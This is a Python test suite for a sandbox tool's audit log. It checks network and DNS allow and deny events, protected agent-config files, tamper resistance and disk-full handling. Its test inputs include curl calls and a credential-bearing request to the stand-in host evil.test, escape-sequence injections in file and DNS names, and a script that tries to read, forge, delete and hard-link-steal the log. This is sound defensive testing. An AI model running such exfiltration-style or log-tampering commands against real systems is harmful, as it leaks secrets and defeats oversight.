#!/usr/bin/python3
"""The audit log of a run: every decision is in it, whichever way it came; the command
cannot reach it; a log that cannot be kept is told of."""
import json
import os
import socket
import subprocess
import sys
import threading

import fakenet
import world
from contained import CORDON, case, expect
from world import EVIL, GOOD, NET, PYTHON, UNPROXIED

WORLD = None
HERE = None  # a server on the host's loopback, port 5432
HEAD = {"v", "time", "run", "kind"}


def place(at):
    return os.path.join(at.home, ".local/state/cordon/audit.jsonl")


def lines(path):
    with open(path, "rb") as file:
        data = file.read()
    expect(data == b"" or data.endswith(b"\n"), f"half a line: {data[-200:]}")
    return [json.loads(line) for line in data.decode("utf-8").splitlines()]


def audited(at, script, *flags, status=0):
    """The events of one run of a shell script, between its start and its end."""
    WORLD.forget()
    done = at.run("sh", "-c", script, flags=("--audit", place(at), *flags))
    expect(done.returncode == status, "it broke", done)
    events = lines(place(at))
    os.unlink(place(at))
    for event in events:
        expect(HEAD <= set(event) and event["v"] == 1 and event["run"] == events[0]["run"], f"{event}")
    kinds = [event["kind"] for event in events]
    expect(kinds[0] == "run.start" and kinds[-1] == "run.end", f"{kinds}", done)
    return events[1:-1], done


def one(events, **wanted):
    """The one event that has all of this."""
    found = [e for e in events if all(e.get(name) == value for name, value in wanted.items())]
    expect(len(found) == 1, f"{len(found)} of {wanted} in\n" + "\n".join(map(str, events)))
    return found[0]


# --- what is in it ------------------------------------------------------------------

CURL = "curl -sS -m 60 "
WAYS = (("http", CURL + "http://{host}/", 80), ("connect", CURL + "-k https://{host}/", 443),
        ("socks5", CURL + "-x socks5h://127.0.0.1:3128 http://{host}/", 80))


@case
def what_is_allowed_by_every_way(at):
    for via, script, port in WAYS:
        events, done = audited(at, script.format(host="allowed.test"), *NET)
        expect(done.stdout == "welcome /\n", f"{via}: not reached", done)
        expect(len(events) == 1, f"{via}: {events}")
        event = one(events, kind="net.allow", via=via, name="allowed.test", port=port, address=GOOD)
        expect("allowed.test" in event["rule"] and "reason" not in event, f"{event}")
        expect(event["bytes_out"] > 50 and event["bytes_in"] > 50, f"{event}")
        expect(event["duration_ms"] >= 0, f"{event}")
    events, done = audited(at, UNPROXIED + CURL + "-4 http://allowed.test/", *NET)
    expect(done.stdout == "welcome /\n", "capture: not reached", done)
    event = one(events, kind="net.allow", via="capture", name="allowed.test", port=80, address=GOOD)
    looked_up = one(events, kind="dns.allow", via="dns", name="allowed.test")
    expect(looked_up["address"] not in ("", GOOD) and looked_up["rule"], f"{looked_up}")
    expect(looked_up["time"] <= event["time"], f"{events}")


@case
def what_is_denied_by_every_way(at):
    for via, script, port in WAYS:
        events, done = audited(at, script.format(host="evil.test") + "; true", *NET)
        event = one(events, kind="net.deny", via=via, name="evil.test", port=port, reason="host_denied")
        expect(event["rule"] and "net.allow" in event["hint"], f"{event}")
        expect(len(events) == 1, f"{via}: {events}", done)
        WORLD.nothing_came(done)
    script = UNPROXIED + CURL + f"http://evil.test/; {CURL} http://{EVIL}/; {CURL} http://private.wild.test/; true"
    events, done = audited(at, script, *NET)
    denied = [e for e in events if e["kind"] == "dns.deny" and e["name"] == "evil.test"]
    expect(denied and all(e["reason"] == "host_denied" and e["rule"] for e in denied), f"{events}", done)
    one(events, kind="net.deny", via="capture", name=EVIL, port=80, reason="host_denied")
    private = [e for e in events if e["kind"] == "dns.deny" and e["name"] == "private.wild.test"]
    expect(private and private[0]["address"] == "10.0.0.5" and private[0]["reason"] == "address_denied", f"{events}")
    WORLD.nothing_came(done)


@case
def what_fails_is_no_denial(at):
    flags = (*NET, "--allow-domain", "allowed.test:9")
    events, _ = audited(at, CURL + "http://allowed.test:9/ > /dev/null", *flags)
    event = one(events, kind="net.fail", name="allowed.test", port=9, reason="upstream_failed", address=GOOD)
    expect("refused" in event["detail"], f"{event}")


@case
def requests_are_decided_one_by_one(at):
    rules = world.policy(at, '[net]\nallow = ["allowed.test"]\n[[net.rule]]\nhost = "allowed.test"\npaths = ["/ok"]\n')
    events, done = audited(at, CURL + "http://allowed.test/ok http://allowed.test/no", *rules)
    expect("welcome /ok\n" in done.stdout, "not reached", done)
    one(events, kind="net.allow", name="allowed.test")
    expect("/no" in one(events, kind="net.deny", name="allowed.test")["rule"], f"{events}")


@case
def ports_of_the_host_and_of_the_sandbox(at):
    script = at.write(os.path.join(at.outside, "code.py"), world.PRELUDE + '''
with socket.create_connection(("127.0.0.1", 5432), 20) as s:
    s.sendall(b"1234567")
    s.shutdown(socket.SHUT_WR)
    assert s.recv(100) == b"hello"
with socket.socket() as server:
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.bind(("127.0.0.1", 3000))
    server.listen()
    print("up", flush=True)
    with server.accept()[0] as c:
        while c.recv(100):
            pass
        c.sendall(b"inside")
''')
    flags = ("--audit", place(at), *NET, "--host-port", "5432", "--publish", "3000")
    process = subprocess.Popen([*CORDON, "run", *at.reads, *flags, "--", PYTHON, script], cwd=at.ws, env=at.env,
                               stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, text=True)
    expect(process.stdout.readline() == "up\n", "the server inside did not come up")
    with socket.create_connection(("127.0.0.1", 3000), 20) as client:
        client.settimeout(20)
        client.sendall(b"abc")
        client.shutdown(socket.SHUT_WR)
        expect(fakenet.read_all(client) == b"inside", "the published server was not reached")
    expect(process.wait(60) == 0, "it failed")
    process.stdout.close()
    events = lines(place(at))
    host = one(events, kind="net.allow", via="host_port", port=5432, address="127.0.0.1", rule="net.host_ports")
    expect((host["bytes_out"], host["bytes_in"]) == (7, 5), f"{host}")
    inside = one(events, kind="net.allow", via="publish", port=3000, address="127.0.0.1", rule="net.publish")
    expect((inside["bytes_out"], inside["bytes_in"]) == (3, 6), f"{inside}")


@case
def what_the_broker_denies(at):
    path = os.path.join(at.outside, "host.sock")
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(path)
        os.chmod(path, 0o777)
        server.listen()
        script = (f"{PYTHON} -c 'import socket; socket.socket(socket.AF_UNIX).connect_ex(\"{path}\")'; "
                  "for i in 1 2 3; do touch .mcp.json; done; touch fine")
        events, done = audited(at, script)
        expect(len(events) == 2, f"{events}", done)
        one(events, kind="unix.deny", operation="connect", subject=path, reason="unix_socket", rule="net.unix_sockets")
        one(events, kind="fs.deny", operation="create", subject=at.path(".mcp.json"), reason="floor_name",
            rule="floor built in")
        events, done = audited(at, "touch finer", "--allow-unix", path)
        expect(events == [], f"{events}", done)


@case
def the_start_and_the_end(at):
    file = at.write(os.path.join(at.outside, "p.toml"), f"version = 1\n[audit]\nlog = '{place(at)}'\n")
    done = at.run("sh", "-c", "touch .mcp.json; touch .mcp.json; exit 3", flags=("--policy", file))
    expect(done.returncode == 3, "it broke", done)
    start, _, end = lines(place(at))
    expect(start["command"] == ["sh", "-c", "touch .mcp.json; touch .mcp.json; exit 3"], f"{start}")
    expect(start["cwd"] == start["workspace"] == at.ws and start["backend"] == "namespaces", f"{start}")
    expect({"preset workspace", file, "flag --read"} <= set(start["policy"]), f"{start}")
    expect(start["enforcement"]["net"] == "full" and start["enforcement"]["limits.cpu"] == "none", f"{start}")
    expect((end["outcome"], end["reason"], end["exit_status"], end["denials"], end["lost"])
           == ("exited", "exited", 3, 2, 0), f"{end}")
    expect(end["wall_ms"] >= 0 and end["max_rss_kb"] > 0, f"{end}")
    at.run("sleep", "60", flags=("--policy", file, "--timeout", "200ms"))
    at.run("no-such-command", flags=("--policy", file))
    at.run("true", flags=("--policy", file, "--require", "limits.disk"))
    ends = [e for e in lines(place(at)) if e["kind"] == "run.end"][1:]
    expect([(e["outcome"], e["reason"], e["exit_status"]) for e in ends] ==
           [("timed_out", "timed_out", 124), ("exec_failed", "exec_not_found", 127),
            ("refused", "requirement_unmet", 125)], f"{ends}")


@case
def without_it_nothing_is_kept(at):
    done = at.run("curl", "-sS", "http://allowed.test/", flags=NET)
    expect(done.stdout == "welcome /\n", "not reached", done)
    expect(not os.path.exists(os.path.join(at.home, ".local")), "a file from nowhere")


# --- hostile words -----------------------------------------------------------------

@case
def hostile_words_stay_words(at):
    code = at.write(os.path.join(at.outside, "code.py"), world.PRELUDE + r'''
os.makedirs(b".claude", exist_ok=True)
for name in (b".claude/settings\n{\"v\":1}\x1b[2J\xff", b".claude/settings" + b"\x01" * 200):
    try:
        open(name, "w")
    except OSError:
        pass
def say(words):
    with socket.create_connection(("127.0.0.1", 3128), 20) as s:
        s.sendall(words)
        while s.recv(65536):
            pass
say(b"CONNECT evil.test\x00\x1b\xff:443 HTTP/1.1\r\nHost: x\r\n\r\n")
say(b"CONNECT me:hunter2@evil.test:443 HTTP/1.1\r\nHost: x\r\n\r\n")
say(b"GET http://me:hunter2@evil.test/?token=hunter2 HTTP/1.1\r\nHost: x\r\n\r\n")
say(b"CONNECT " + b"a" * 5000 + b":443 HTTP/1.1\r\nHost: x\r\n\r\n")
query = lambda name: b"\0\1\1\0\0\1\0\0\0\0\0\0" + name + b"\0\0\1\0\1"
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    s.settimeout(20)
    s.connect(("127.0.0.1", 53))
    s.send(query(b"\x06a\n\x1b\xff\"\\\x04evil"))
    s.recv(1000)
''')
    events, done = audited(at, f"{PYTHON} {code}", *NET)
    expect(len([e for e in events if e["kind"] == "fs.deny"]) == 2, f"{events}", done)
    expect(len([e for e in events if e["kind"] == "net.deny"]) == 4, f"{events}", done)
    expect(len([e for e in events if e["kind"] == "dns.deny"]) == 1, f"{events}", done)
    one(events, kind="fs.deny", subject=at.path('.claude/settings\\x0a{"v":1}\\x1b[2J\\xff'))
    text = json.dumps(events)
    expect("hunter2" not in text, text)
    for event in events:
        for value in event.values():
            expect(not isinstance(value, str) or (value.isprintable() and len(value) < 5000), f"{event}")


# --- out of reach --------------------------------------------------------------------

@case
def the_command_cannot_reach_it(at):
    elsewhere = os.path.join(at.outside, "log", "audit.jsonl")
    for path, flags in ((place(at), ()), (elsewhere, ()), (place(at), ("--write", at.home))):
        script = (f"cat {path}; echo forged >> {path}; rm -f {path}; mv {path} {path}.x; ln {path} stolen; "
                  f"mv {os.path.dirname(path)} {os.path.dirname(path)}.x; cat stolen; true")
        done = at.run("sh", "-c", script, flags=("--audit", path, *flags))
        expect(done.returncode == 0 and "run.start" not in done.stdout, f"{path}: read", done)
        kinds = [event["kind"] for event in lines(path)]
        expect(kinds[0] == "run.start" and kinds[-1] == "run.end", f"{path}: {kinds}", done)
        expect(set(kinds[1:-1]) <= {"fs.deny"}, f"{path}: {kinds}", done)
        status = os.stat(path)
        expect(status.st_mode & 0o777 == 0o600 and status.st_uid == os.geteuid(), f"{path}: {status}")
        expect(os.stat(os.path.dirname(path)).st_mode & 0o777 == 0o700, f"{path}: its directory")
        os.unlink(path)


@case
def not_in_a_writable_root(at):
    os.symlink(at.ws, os.path.join(at.outside, "link"))
    for path in ("audit.jsonl", at.path("new/audit.jsonl"), os.path.join(at.outside, "link/audit.jsonl")):
        file = at.write(os.path.join(at.outside, "p.toml"), f"version = 1\n[audit]\nlog = '{path}'\n")
        done = at.run("touch", "ran", flags=("--policy", file))
        expect(done.returncode == 125 and f"{file}:3: audit.log: {at.ws}" in done.stderr, f"{path}", done)
    expect(os.listdir(at.ws) == [], f"left behind: {os.listdir(at.ws)}")
    done = at.run("touch", "ran", flags=("--audit", os.path.join(at.outside, "audit.jsonl")))
    expect(done.returncode == 0 and os.listdir(at.ws) == ["ran"], "refused", done)


@case
def a_log_that_cannot_be_opened_refuses_the_run(at):
    os.symlink("target", os.path.join(at.outside, "link"))
    os.mkfifo(os.path.join(at.outside, "fifo"))
    for path in (at.outside, "/dev/null", os.path.join(at.outside, "link"), os.path.join(at.outside, "fifo"),
                 "/proc/none/audit.jsonl"):
        done = at.run("touch", "ran", flags=("--json", "--audit", path))
        expect(done.returncode == 125 and "audit.log" in done.stdout, f"{path}: not refused", done)
        expect(json.loads(done.stdout)["error"]["reason"] == "audit_failed", f"{path}", done)
    expect(os.listdir(at.ws) == [] and not os.path.exists(os.path.join(at.outside, "target")), "it ran")


@case
def a_full_disk(at):
    disk = os.path.join(at.outside, "disk")
    os.mkdir(disk)
    subprocess.run(["mount", "-t", "tmpfs", "-o", "size=64k,mode=777", "tmpfs", disk], check=True)
    try:
        path = os.path.join(disk, "audit.jsonl")
        with open(os.path.join(disk, "filler"), "wb") as filler:
            filler.write(b"x" * 56 * 1024)
        names = "for n in $(seq 100); do getent hosts n$n.evil.test; done; echo done"
        done = at.run("sh", "-c", names, flags=("--audit", path, *NET))
        expect(done.returncode == 0 and done.stdout == "done\n", "the run broke", done)
        expect("audit log is not complete" in done.stderr and "No space left" in done.stderr, "not told", done)
        with open(path, "rb") as file:
            kept = file.read().split(b"\n")
        expect(json.loads(kept[0])["kind"] == "run.start", f"{kept[0]}")
        expect(all(json.loads(line)["kind"] == "dns.deny" for line in kept[1:-1]), f"{kept[-3:]}")
        told = json.loads(at.run("sh", "-c", "touch ran", flags=("--json", "--audit", path)).stdout)
        expect(told["error"]["reason"] == "audit_failed" and not os.path.exists(at.path("ran")), f"{told}")
        os.unlink(os.path.join(disk, "filler"))
        told = json.loads(at.run("sh", "-c", "touch ran", flags=("--json", "--audit", path)).stdout)
        expect(told["exit_status"] == 0 and "audit_problem" not in told, f"{told}")
    finally:
        subprocess.run(["umount", disk], check=True)


@case
def runs_share_a_file(at):
    def run(number):
        at.run("sh", "-c", f": {number}; for n in 1 2 3 4 5; do {CURL} http://evil$n.test/; done",
               flags=("--audit", place(at), *NET))
    threads = [threading.Thread(target=run, args=(number,)) for number in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    by_run = {}
    for event in lines(place(at)):
        by_run.setdefault(event["run"], []).append(event["kind"])
    expect(len(by_run) == 4, f"{by_run}")
    for kinds in by_run.values():
        expect(kinds == ["run.start"] + ["net.deny"] * 5 + ["run.end"], f"{kinds}")


def hello(connection):
    fakenet.read_all(connection)
    connection.sendall(b"hello")


if __name__ == "__main__":
    WORLD = world.start()
    HERE = fakenet.Server("127.0.0.1", 5432, hello)
    sys.exit(world.main("audit", WORLD))
